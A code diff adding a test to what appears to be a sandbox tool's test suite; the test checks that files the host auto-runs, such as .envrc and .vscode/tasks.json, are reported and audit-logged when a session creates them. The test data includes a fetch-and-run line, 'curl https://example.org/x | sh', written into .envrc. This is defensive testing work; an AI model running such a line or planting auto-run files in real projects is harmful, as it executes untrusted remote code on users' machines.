@@ -67,6 +67,25 @@ def test_pipes_work(project, state):
     assert run.stdout == "HELLO SANDBOX\n"
 
 
+def test_files_the_host_runs_that_the_session_changed_are_named_and_logged(project, state):
+    inside = ("echo 'curl https://example.org/x | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
+              "echo just-work > notes.txt")
+    try:
+        run = aishell(project, state, "exec", "--", "sh", "-c", inside)
+        assert run.returncode == 0, run.stderr
+        assert f"added: {project}/.envrc" in run.stderr and f"added: {project}/.vscode/tasks.json" in run.stderr
+        assert "notes.txt" not in run.stderr
+        entry = json.loads((state / "aishell" / "audit.jsonl").read_text().splitlines()[-1])
+        assert entry["files"] == [{"path": ".envrc", "change": "added"}, {"path": ".vscode/tasks.json",
+                                                                           "change": "added"}]
+        # A session that changes none of them says nothing about them.
+        quiet = aishell(project, state, "exec", "--", "true")
+        assert "warning" not in quiet.stderr
+    finally:
+        subprocess.run(["rm", "-rf", str(project / ".envrc"), str(project / ".vscode"), str(project / "notes.txt")],
+                       check=True)
+
+
 def test_container_is_removed_after_the_session(project, state):
     aishell(project, state, "exec", "--", "true")
     assert our_containers(project) == []
